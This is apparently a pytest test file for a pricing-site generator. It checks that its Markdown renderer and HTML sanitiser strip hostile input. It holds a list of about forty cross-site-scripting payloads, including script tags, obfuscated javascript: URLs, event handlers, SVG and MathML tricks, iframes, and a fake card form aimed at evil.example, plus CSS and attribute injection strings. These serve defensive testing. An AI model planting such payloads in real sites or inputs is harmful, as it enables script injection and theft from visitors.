"""Hostile content: nothing from config runs script, loads anything or restyles the page.

Each payload goes through the content Markdown renderer alone and then through a whole rendered page
(every Markdown slot and every plain-text slot at once); the output is parsed and checked element by
element, attribute by attribute.
"""

from __future__ import annotations

import dataclasses
import html
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from compiler.catalog import Catalog, Cta, FaqEntry, Highlight, Theme
from compiler.project import compile_config
from publishers.site import render_site
from publishers.site.markdown import ALLOWED_TAGS, render_markdown, sanitise_html
from tests.test_site_dom import Node, parse_html

REPO = Path(__file__).resolve().parent.parent
AT = datetime(2026, 6, 1, tzinfo=UTC)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](%6A%61vascript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/track.png)",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    '<div onmouseover="alert(1)">hover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "<details open ontoggle=alert(1)>",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
    "[x](//evil.example/protocol-relative)",
    "[x](/relative/path)",
    "<a href='https://ok.example' onclick='alert(1)' style='color:red'>ok</a>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>script>alert(1)<</script>/script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '<a href="https://ok.example" target="_blank">new tab</a>',
    "**bold** <b onclick=alert(1)>b</b> <u>u</u>",
]

DANGEROUS_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data|file):", re.IGNORECASE)


def fragment_problems(root: Node) -> list[str]:
    """Anything in a sanitised fragment outside the allow-list: tags, attributes, URL schemes."""
    problems = []
    for node in root.iter():
        if node.tag not in ALLOWED_TAGS:
            problems.append(f"tag <{node.tag}>")
        for name, value in node.attrs.items():
            if (node.tag, name) not in (("a", "href"), ("a", "rel")):
                problems.append(f"attribute {name} on <{node.tag}>")
            if name == "href":
                url = html.unescape(value or "")
                if not re.match(r"(https?://|mailto:)", url, re.IGNORECASE):
                    problems.append(f"href {url!r}")
            if name == "rel" and value != "noopener noreferrer":
                problems.append(f"rel {value!r}")
    return problems


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 25


@pytest.mark.parametrize("payload", HOSTILE)
def test_markdown_output_keeps_only_the_allow_list(payload: str) -> None:
    output = str(render_markdown(payload))
    assert fragment_problems(parse_html(output)) == []
    lowered = output.lower()
    for marker in ("<script", "<style", "<svg", "<iframe", "<img", "<form", "<meta", "<base", "<link"):
        assert marker not in lowered
    assert not re.search(r"<[^>]*\son\w+\s*=", output, re.IGNORECASE)


@pytest.mark.parametrize("payload", HOSTILE)
def test_sanitiser_alone_handles_raw_html(payload: str) -> None:
    # Defence in depth: even if the Markdown layer let raw HTML through, the sanitiser still holds.
    assert fragment_problems(parse_html(str(sanitise_html(payload)))) == []


def test_safe_markdown_survives() -> None:
    output = str(
        render_markdown("**Bold**, *em*, `code` and [terms](https://x.example/terms).\n\n- one\n- two")
    )
    assert "<strong>Bold</strong>" in output and "<em>em</em>" in output and "<code>code</code>" in output
    assert '<a href="https://x.example/terms" rel="noopener noreferrer">terms</a>' in output
    assert "<ul>" in output and output.count("<li>") == 2
    assert '<a href="mailto:a@x.example" rel="noopener noreferrer">' in str(
        render_markdown("[a](mailto:a@x.example)")
    )


@pytest.fixture(scope="module")
def shipped() -> Catalog:
    result = compile_config(REPO / "pricing")
    assert result.catalog is not None
    return result.catalog


def hostile_catalog(shipped: Catalog, payload: str) -> Catalog:
    page = shipped.pages["pricing"]
    cards = tuple(
        dataclasses.replace(
            card,
            tagline=payload,
            description=payload,
            callout=payload,
            badge=payload,
            highlights=(*card.highlights, Highlight(text=payload, description=payload, icon='x"><script>')),
            cta=Cta(
                payload, "link", url="javascript:alert(1)", color="red;}</style><script>", text_color=payload
            ),
        )
        for card in page.cards
    )
    hostile_page = dataclasses.replace(
        page,
        title=payload,
        headline=payload,
        intro=payload,
        footer=payload,
        faq=(FaqEntry(payload, payload),),
        cards=cards,
        checkout_url="javascript:alert('{plan}')",
        theme=Theme(background="#fff;}</style>", text=payload, accent="expression(alert(1))"),
        comparison_title=payload,
    )
    promotions = {
        pid: dataclasses.replace(promo, badge=payload, name=payload)
        for pid, promo in shipped.promotions.items()
    }
    return dataclasses.replace(shipped, pages={"pricing": hostile_page}, promotions=promotions)


@pytest.mark.parametrize("payload", HOSTILE)
def test_whole_page_with_hostile_content_everywhere(shipped: Catalog, payload: str) -> None:
    catalog = hostile_catalog(shipped, payload)
    for at in (AT, datetime(2026, 10, 25, tzinfo=UTC)):  # with and without a promotion badge
        site = render_site(catalog, at=at, regions=["IN"])
        page_html = site.pages[0].html
        root = parse_html(page_html)
        scripts = root.find_all("script")
        assert len(scripts) == 1 and scripts[0].get("src") is None  # only our toggle script
        assert len(root.find_all("style")) == 1
        for node in root.iter():
            assert node.tag not in ("iframe", "object", "embed", "form", "img", "base", "math", "template")
            assert node.tag != "meta" or node.get("http-equiv") in (None, "Content-Security-Policy")
            assert node.tag != "link" or node.get("href") == "data:,"
            for name, value in node.attrs.items():
                assert not name.startswith("on"), (name, node.tag)
                assert name != "style"
                if node.tag != "link" and name in (
                    "href",
                    "src",
                    "action",
                    "data-href-monthly",
                    "data-href-annual",
                ):
                    assert not DANGEROUS_SCHEMES.match(html.unescape(value or "")), (name, value)
        # The plain-text slots show the payload as text, exactly as written.
        assert root.find("h1").text(visible=False) == re.sub(r"\s+", " ", payload).strip()
        style = "".join(c for c in root.find("style").children if isinstance(c, str))
        assert "</" not in style and "expression(" not in style and "red;" not in style
        # No button points at the javascript: URL: a link CTA with a bad URL is dropped.
        assert root.find_all("a", cls="cta") == []
        # JSON carries the same sanitised HTML.
        data = site.pages[0].data
        assert fragment_problems(parse_html(str(data["intro_html"]))) == []


def test_cycle_ids_from_a_database_catalog_cannot_inject_attributes(shipped: Catalog) -> None:
    # The schema allows only plain ids, but a catalog read back from the database skipped the schema.
    page = shipped.pages["pricing"]
    bad = 'annual" onmouseover="alert(1)'
    display = dataclasses.replace(page.display, cycles=("monthly", bad), default_cycle=bad)
    catalog = dataclasses.replace(shipped, pages={"pricing": dataclasses.replace(page, display=display)})
    site = render_site(catalog, at=AT, regions=["US"])
    root = parse_html(site.pages[0].html)
    assert root.find_all("input", type="radio") == []  # one cycle left: no toggle
    prices = root.find("article", data_plan="pro").find_all("div", cls="price")
    assert [(p.get("data-cycle"), "shown" in p.classes) for p in prices] == [("monthly", True)]
    assert all(not name.startswith("on") for node in root.iter() for name in node.attrs)
    assert any("not a valid id" in w for w in site.warnings)
